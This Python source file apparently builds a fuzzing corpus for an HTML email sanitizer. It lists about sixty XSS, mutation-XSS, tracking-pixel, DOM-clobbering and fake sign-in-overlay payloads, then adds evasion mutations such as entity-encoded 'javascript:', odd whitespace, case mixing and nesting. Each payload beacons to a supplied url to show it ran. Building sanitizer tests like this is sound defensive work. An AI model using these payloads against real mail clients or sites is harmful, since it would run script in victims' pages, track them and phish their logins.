"""Mail that wants to run: ways of getting a script, a request or a page's frame out of HTML, and chance to write each of them differently."""

import random
import re
from collections.abc import Callable, Sequence

# `{js}` is what is to run, `{url}` a stranger's server. Each is one way in; most need no click.
_WAYS = (
    '<script>{js}</script>',
    '<script src="{url}/s.js"></script>',
    '<img src="{url}/none" onerror="{js}">',
    '<img src=1 onerror="{js}">',
    '<body onload="{js}" onpageshow="{js}">',
    '<svg onload="{js}"></svg>',
    '<svg><script>{js}</script></svg>',
    '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
    '<svg><a xlink:href="javascript:{js}"><text y="20">press</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.{js}</script>"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{js}</script></svg>#x"/></svg>',
    '<svg><desc><noscript><img title="</noscript><img src=1 onerror={js}>"></desc></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={js}>"></table></mtext></math>',
    '<math href="javascript:{js}">press</math>',
    '<form><math><mi></form><form><malignmark></mi><style></math><img src=1 onerror="{js}"></style></form>',
    '<table><td><svg><title><style><img title="</title></svg><img src=1 onerror={js}>"></style></title></svg></td></table>',
    '<noscript><p title="</noscript><img src=1 onerror={js}>"></noscript>',
    '<template><img src=1 onerror="{js}"></template>',
    '<title><a title="</title><img src=1 onerror={js}>"></title>',
    '<textarea><a title="</textarea><img src=1 onerror={js}>"></textarea>',
    '<xmp><a title="</xmp><img src=1 onerror={js}>"></xmp>',
    '<style><a title="</style><img src=1 onerror={js}>"></style>',
    '<!--><img src=1 onerror="{js}">-->',
    '<!-- --!><img src=1 onerror="{js}"> -->',
    '<![CDATA[><img src=1 onerror="{js}">]]>',
    '<?x <img src=1 onerror="{js}">?>',
    '</iframe></body></html><img src=1 onerror="{js}"><script>{js}</script>',
    '<iframe src="javascript:parent.{js}"></iframe>',
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    '<iframe src="{url}/frame"></iframe>',
    '<object data="data:text/html,<script>parent.{js}</script>"></object><embed src="javascript:{js}">',
    '<object data="{url}/object" type="text/html"></object>',
    '<a href="javascript:{js}" id="x">press</a>',
    '<a href="data:text/html,<script>{js}</script>">press</a>',
    '<a href="vbscript:{js}">press</a>',
    '<form action="{url}/form" id="f"><input name="parent"><button formaction="javascript:{js}">Pay</button></form>',
    '<button popovertarget="p">x</button><div id="p" popover onbeforetoggle="{js}">p</div>',
    '<input autofocus onfocus="{js}">',
    '<details open ontoggle="{js}"><summary>more</summary></details>',
    '<video autoplay onloadstart="{js}" src="{url}/video"><source onerror="{js}" src="{url}/v"></video>',
    '<audio src="{url}/audio" autoplay onerror="{js}"></audio>',
    '<marquee onstart="{js}">going</marquee>',
    '<div style="animation: a 1ms" onanimationstart="{js}"><style>@keyframes a {{ to {{ top: 0 }} }}</style>moving</div>',
    '<meta http-equiv="refresh" content="0; url={url}/refresh">',
    '<meta http-equiv="refresh" content="0; url=javascript:{js}">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="{url}/"><img src="pixel"><a href="x" target="_top">press</a>',
    '<link rel="stylesheet" href="{url}/style"><link rel="prefetch" href="{url}/prefetch"><link rel="preload" as="image" href="{url}/preload">',
    '<style>@import "{url}/import"; @font-face {{ font-family: f; src: url({url}/font) }} body {{ font-family: f; background: url({url}/css) }}</style>',
    '<p style="background-image: url({url}/inline); list-style: url({url}/list)">styled</p>',
    '<p style="position: fixed; inset: 0; z-index: 9999; background: #fff">Sign in again</p>',
    '<p style="width: expression({js}); behavior: url({url}/htc)">old</p>',
    '<img src="{url}/pixel.gif" width="1" height="1"><img srcset="{url}/a 1x, {url}/b 2x">',
    '<picture><source srcset="{url}/source"><img src="{url}/picture"></picture>',
    '<a href="https://lamps.example/" ping="{url}/ping" target="_top">press</a>',
    '<table background="{url}/table"><td background="{url}/cell">cell</td></table>',
    '<input type="image" src="{url}/input"><video poster="{url}/poster"></video>',
    '<img name="parent"><img name="location"><form name="document"><input name="body"></form><a id="top" href="{url}/clobber">x</a>',
    '<div id="main">not ours</div><div id="app">nor this</div><input id="csrf" name="csrf" value="x">',
)  # fmt: skip
_SPLIT = re.compile(r"(?<=<)(\w+)|\b(on\w+)(?==)")


def corpus(dice: random.Random, url: str, many: int) -> list[str]:
    """Return `many` mails' bodies: first every way as it is, as far as they go, then ways that are written differently, nested and joined.

    Whatever runs sets `hacked` on the page around and asks `url` for /ran; `url` takes no quotes or spaces.
    """
    ways = list(_WAYS)
    dice.shuffle(ways)
    found = [_filled(way, url) for way in ways[:many]]
    while len(found) < many:
        way = dice.choice(ways)
        for change in dice.sample(_CHANGES, dice.randint(1, 3)):
            way = change(way, dice)
        found.append(_filled(way, url))
    return found


def _filled(way: str, url: str) -> str:
    js = f"top.hacked=1;new(Image)().src=`{url}/ran`"
    return way.replace("{js}", js).replace("{url}", url).replace("{{", "{").replace("}}", "}")


def _in_capitals(way: str, dice: random.Random) -> str:
    return _SPLIT.sub(lambda word: "".join(dice.choice((letter.upper(), letter)) for letter in word[0]), way)


def _with_odd_spaces(way: str, dice: random.Random) -> str:
    return way.replace(" ", dice.choice(("/", "\n", "\t", "\f", " / ")))


def _with_entities(way: str, dice: random.Random) -> str:
    return way.replace("javascript:", dice.choice(("&#106;avascript:", "java&#x09;script&colon;", "\x01javascript:", "java\nscript:", "JaVaScRiPt&#58;")))


def _without_quotes(way: str, dice: random.Random) -> str:
    return way.replace('="{js}"', "={js}")


def _with_nuls(way: str, dice: random.Random) -> str:
    return _SPLIT.sub(lambda word: word[0][:2] + "\ufffd" + word[0][2:] if dice.random() < 0.2 else word[0], way)


def _doubled(way: str, dice: random.Random) -> str:
    return re.sub(r"<(script|img|svg|iframe)\b", lambda tag: f"<{tag[1][:2]}<{tag[1]}>{tag[1][2:]}", way) if dice.random() < 0.5 else way + way


def _unfinished(way: str, dice: random.Random) -> str:
    return way[: -dice.randint(1, 4)]


def _joined(way: str, dice: random.Random) -> str:
    return way + dice.choice(_WAYS)


def _wrapped(way: str, dice: random.Random) -> str:
    before, after = dice.choice(
        (
            ("<svg>", "</svg>"), ("<math><mtext>", "</mtext></math>"), ("<svg><style>", "</style></svg>"), ("<table><tr>", "</tr></table>"), ("<select>", "</select>"),
            ("<svg><title>", "</title></svg>"), ("<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"), ("<form><form>", "</form>"), ("<p", ">"),
            ("<noscript>", "</noscript>"), ("<template>", "</template>"), ("<blockquote cite='", "'>"), ("<!--", "--!>"), ("<title>", "</title>"), ("<b><i>", "</b></i>"),
        )
    )  # fmt: skip
    return before + way + after


_CHANGES: Sequence[Callable[[str, random.Random], str]] = (
    _in_capitals, _with_odd_spaces, _with_entities, _without_quotes, _with_nuls, _doubled, _unfinished, _joined, _wrapped, _wrapped,
)  # fmt: skip
